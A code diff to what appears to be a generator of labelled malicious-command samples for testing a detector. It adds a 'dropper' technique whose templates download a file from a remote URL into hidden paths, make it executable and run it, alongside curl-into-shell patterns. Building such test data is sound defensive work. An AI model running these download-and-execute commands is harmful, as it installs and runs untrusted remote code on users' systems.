@@ -319,6 +319,20 @@ def eval_remote(w):
                      f"eval \"$(wget -qO- {u})\"", f"wget -qO- {u} | . /dev/stdin"]), bad
 
 
+def dropper(w):
+    u, bad = remote_url(w)
+    f = w.choice(["/tmp/.x", f"/tmp/.{w.label()}", "/dev/shm/k", f"/var/tmp/{w.label()}", "./.cache/upd", "$HOME/.local/bin/helper"])
+    return w.choice([
+        f"curl -so {f} {u} && chmod +x {f} && {f}",
+        f"wget -qO {f} {u}; chmod 755 {f}; {f} &",
+        f"curl -fsSL {u} -o {f} && bash {f}",
+        f"curl -s {u} > {f}; sh {f}; rm -f {f}",
+        f"python3 <(curl -s {u})",
+        f"curl -sL {u} | tar xz -C /tmp && /tmp/{w.label()}/run",
+        f"wget -q {u} -O- > {f} && chmod u+x {f} && nohup {f} >/dev/null 2>&1 &",
+    ]), bad
+
+
 def undecodable(w):
     f = w.choice([f"/tmp/.{w.label()}", f"/var/tmp/.cache-{w.label()}", f"/dev/shm/.{w.label()}", f".git/{w.label()}.pack"])
     k = w.token(16)
@@ -424,6 +438,7 @@ TECHNIQUES = [
     ("source_stdin", _source_any),
     ("bash_procsub_curl", _remote(procsub_run, "procsub")),
     ("curl_pipe_sh", _remote(curl_sh, "pipe")),
+    ("download_chmod_exec", _remote(dropper, "dropper")),
     ("nested_decoding", _nested),
     ("disguise_inside_decoding", _stacked),
     ("undecodable_to_interpreter", lambda w, i: {"steps": [undecodable(w)], "expect": E.OBFUSCATED, "variant": "undecodable"}),
